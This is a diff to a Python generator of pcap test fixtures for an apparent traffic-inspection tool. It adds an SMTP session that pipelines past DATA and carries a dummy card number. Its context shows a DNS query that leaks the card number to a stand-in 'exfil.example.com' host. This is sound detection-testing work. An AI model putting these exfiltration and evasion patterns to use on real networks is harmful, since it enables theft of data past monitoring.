@@ -423,6 +423,22 @@ def inside_servers_capture(outdir):
     cap.write_pcap(out_path(outdir, "smtp-ftp-inside-server.pcap"))
 
 
+HELD_CARD = b"4917612345671008"  # in a message the SMTP decoder holds, then reads again
+
+
+def evidence_smtp_held_capture(outdir):
+    """SMTP whose client pipelines past DATA with no reply seen (pcaps/README.md)."""
+    cap = Capture()
+    fill = b"".join(b"filler line %04d of the second message body\r\n" % i for i in range(200))
+    env = b"MAIL FROM:<>\r\nRCPT TO:<postmaster>\r\nDATA\r\n"
+    session(cap, 47066, 25, [("c", b"EHLO client.example\r\n" + env),
+                             ("c", b"Subject: one\r\n\r\nhello\r\n.\r\n" + env +
+                              b"Subject: card " + HELD_CARD + b"\r\n\r\n"),
+                             ("c", fill[:7900]), ("c", fill[7900:8100]), ("c", fill[8100:8200]),
+                             ("c", b"\r\n.\r\nQUIT\r\n")], mss=9000)
+    cap.write_pcap(out_path(outdir, "evidence-smtp-held-envelope.pcap"))
+
+
 def dns_tls_capture(outdir):
     cap = Capture()
     q = DNS(id=0x4242, rd=1, qd=DNSQR(qname=CARD.decode() + ".exfil.example.com", qtype="TXT"))
@@ -646,6 +662,7 @@ def main():
     dns_hidden_capture(outdir)
     dns_tcp_server_capture(outdir)
     inside_servers_capture(outdir)
+    evidence_smtp_held_capture(outdir)
     websocket_capture(outdir)
 
 
